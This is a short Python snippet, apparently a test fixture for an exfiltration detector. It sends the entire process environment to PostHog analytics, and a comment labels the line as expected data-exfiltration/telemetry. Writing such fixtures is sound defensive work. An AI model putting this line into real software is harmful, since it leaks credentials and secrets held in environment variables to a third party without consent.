import os
import posthog

posthog.capture("x", "start", {"environment": dict(os.environ)}) # expect: data-exfiltration/telemetry
